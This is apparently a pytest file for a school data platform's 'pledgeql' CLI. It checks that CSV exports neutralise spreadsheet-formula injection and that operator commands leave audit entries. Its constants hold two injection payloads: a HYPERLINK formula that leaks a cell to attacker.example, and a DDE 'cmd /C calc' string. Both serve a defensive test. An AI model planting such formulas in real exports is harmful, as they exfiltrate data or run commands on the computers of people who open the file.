"""Issue 14's command-line holes: spreadsheet formulas in `pledgeql export`, and
operator commands that read or change every student's data without a trace."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import getpass
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from server.commands.cli import main as cli_main
from server.db import DatabaseUrls
from server.settings import Settings
from tests.conftest import run_as_owner
from tests.test_roster import bulk_files, write_package

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your grade")'
USER_AGENT = "=cmd|' /C calc'!A0"
STUDENT = "student1@northwind.example"
RECORD = """
mutation Record($events: [ActivityEventInput!]!) { recordActivity(events: $events) { accepted droppedReason } }
"""


def _cli(argv: list[str], db: DatabaseUrls, settings: Settings, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> int:
    """Run a pledgeql command as an operator would, against the test server's database and audit key."""
    monkeypatch.setenv("PLEDGEQL_DATABASE_URL", db.owner)
    monkeypatch.setenv("PLEDGEQL_DATA_DIR", str(settings.data_dir))
    monkeypatch.delenv("PLEDGEQL_AUDIT_KEY", raising=False)
    status = cli_main(argv)
    captured = capsys.readouterr()
    assert status in (0, 1), captured.err
    return status


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _operator_entries(db: DatabaseUrls, command: str) -> list[Any]:
    return list(
        run_as_owner(
            db,
            lambda c: c.fetch(
                "SELECT * FROM audit_entries WHERE actor_role = 'OPERATOR' AND operation_name = $1 ORDER BY at, seq",
                command,
            ),
        )
    )


def _district(db: DatabaseUrls, name: str) -> uuid.UUID:
    found: uuid.UUID = run_as_owner(db, lambda c: c.fetchval("SELECT id FROM districts WHERE name = $1", name))
    return found


async def test_a_formula_planted_in_an_activity_target_and_a_user_agent_is_neutralised_in_the_export(
    client: httpx.AsyncClient,
    token_for: Callable[..., str],
    db: DatabaseUrls,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: Any,
) -> None:
    # The attack, as a student's client can make it: a target and a User-Agent that are formulas.
    now = dt.datetime.now(dt.UTC).isoformat()
    response = await client.post(
        "/graphql",
        json={"query": RECORD, "variables": {"events": [{"kind": "VIEW", "target": HYPERLINK, "occurredAt": now}]}},
        headers={
            "Authorization": f"Bearer {token_for(STUDENT)}",
            "X-Purpose": "STUDENT_LEARNING",
            "User-Agent": USER_AGENT,
        },
    )
    assert response.json()["data"]["recordActivity"]["accepted"] == 1, response.json()
    district = await asyncio.to_thread(_district, db, "Northwind Unified")
    out = tmp_path / "export"
    argv = ["export", "--district", str(district), "--out", str(out)]
    await asyncio.to_thread(_cli, argv, db, settings, monkeypatch, capsys)

    targets = [r["target"] for r in _cells(out / "activity_events.csv")]
    assert "'" + HYPERLINK in targets and HYPERLINK not in targets
    agents = [r["user_agent"] for r in _cells(out / "device_sessions.csv")]
    assert "'" + USER_AGENT in agents and USER_AGENT not in agents
    for name in out.glob("*.csv"):
        for row in _cells(name):
            for column, value in row.items():
                if value[:1] in ("=", "+", "@", "\t", "\r"):
                    raise AssertionError(f"{name.name}.{column} starts a formula: {value[:20]!r}")
    # Numbers stay numbers.
    responses = _cells(out / "responses.csv")
    assert all(r["score"] == "" or float(r["score"]) >= 0 for r in responses)
    assert any(r["time_spent_seconds"].isdigit() for r in responses)
    dictionary = _cells(out / "data_dictionary.csv")
    note = [r["meaning"] for r in dictionary if r["file"] == "(every file)"]
    assert note and "=, +, -, @" in note[0] and "apostrophe" in note[0]


def test_export_roster_import_and_retention_each_leave_one_operator_entry_per_district_and_the_chains_verify(
    db: DatabaseUrls, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    riverside = _district(db, "Riverside Unified")
    identity_user = getpass.getuser()

    # pledgeql export
    before = len(_operator_entries(db, "pledgeql export"))
    _cli(["export", "--district", str(riverside), "--out", str(tmp_path / "out")], db, settings, monkeypatch, capsys)
    exports = _operator_entries(db, "pledgeql export")[before:]
    assert len(exports) == 1
    entry = exports[0]
    assert entry["district_id"] == riverside and entry["purpose"] == "RECORD_ACCESS"
    assert entry["actor_id"] == uuid.UUID(int=0) and entry["subject_student_id"] is None
    assert entry["break_glass"] is False and entry["decision"] == "ALLOW"
    assert entry["justification"].startswith(identity_user + "@") and "users" in entry["fields"]
    assert "responses" in entry["fields"]

    # pledgeql roster import: a dry run writes none, an import one.
    district = uuid.uuid4()
    run_as_owner(db, lambda c: c.execute("INSERT INTO districts (id, name) VALUES ($1, 'Operator test')", district))
    package = write_package(tmp_path / "roster", bulk_files())
    _cli(
        ["roster", "import", str(package), "--district", str(district), "--dry-run"], db, settings, monkeypatch, capsys
    )
    assert _operator_entries(db, "pledgeql roster import") == []
    _cli(["roster", "import", str(package), "--district", str(district)], db, settings, monkeypatch, capsys)
    [imported] = _operator_entries(db, "pledgeql roster import")
    assert imported["district_id"] == district and imported["purpose"] == "INSTRUCTION"
    assert imported["actor_role"] == "OPERATOR" and imported["justification"].startswith(identity_user + "@")
    assert set(imported["fields"]) >= {"users", "enrollments", "classes"}

    # pledgeql retention run: rows past the district's period, in one district only.
    student = run_as_owner(
        db, lambda c: c.fetchval("SELECT id FROM users WHERE district_id = $1 AND role = 'STUDENT' LIMIT 1", riverside)
    )
    run_as_owner(
        db,
        lambda c: c.execute(
            "INSERT INTO activity_events (district_id, id, student_id, kind, occurred_at) "
            "VALUES ($1, $2, $3, 'VIEW', $4)",
            riverside,
            uuid.uuid4(),
            student,
            dt.datetime.now(dt.UTC) - dt.timedelta(days=4000),
        ),
    )
    _cli(["retention", "run", "--dry-run"], db, settings, monkeypatch, capsys)
    assert _operator_entries(db, "pledgeql retention run") == []
    _cli(["retention", "run"], db, settings, monkeypatch, capsys)
    retained = _operator_entries(db, "pledgeql retention run")
    by_district = {r["district_id"]: r for r in retained}
    assert len(by_district) == len(retained)  # one entry per district it changed
    assert {r["purpose"] for r in retained} == {"LEGAL_COMPLIANCE"}
    assert "activity_events" in by_district[riverside]["fields"]
    assert "USAGE" in by_district[riverside]["categories"]
    # Run again: nothing left to delete, nothing written.
    _cli(["retention", "run"], db, settings, monkeypatch, capsys)
    assert len(_operator_entries(db, "pledgeql retention run")) == len(retained)

    # Chained like every entry: audit verify passes.
    assert _cli(["audit", "verify"], db, settings, monkeypatch, capsys) == 0


async def test_a_district_admin_reads_the_operators_entries_in_the_audit_log(
    client: httpx.AsyncClient, token_for: Callable[..., str], db: DatabaseUrls
) -> None:
    response = await client.post(
        "/graphql",
        json={"query": "{ auditLog(first: 200) { nodes { actorRole actorId operationName justification fields } } }"},
        headers={"Authorization": f"Bearer {token_for('admin@riverside.example')}", "X-Purpose": "RECORD_ACCESS"},
    )
    body = response.json()
    assert "errors" not in body, body
    operators = [n for n in body["data"]["auditLog"]["nodes"] if n["actorRole"] == "OPERATOR"]
    assert {n["operationName"] for n in operators} >= {"pledgeql export", "pledgeql retention run"}
    assert all(n["actorId"] == str(uuid.UUID(int=0)) and "@" in n["justification"] for n in operators)
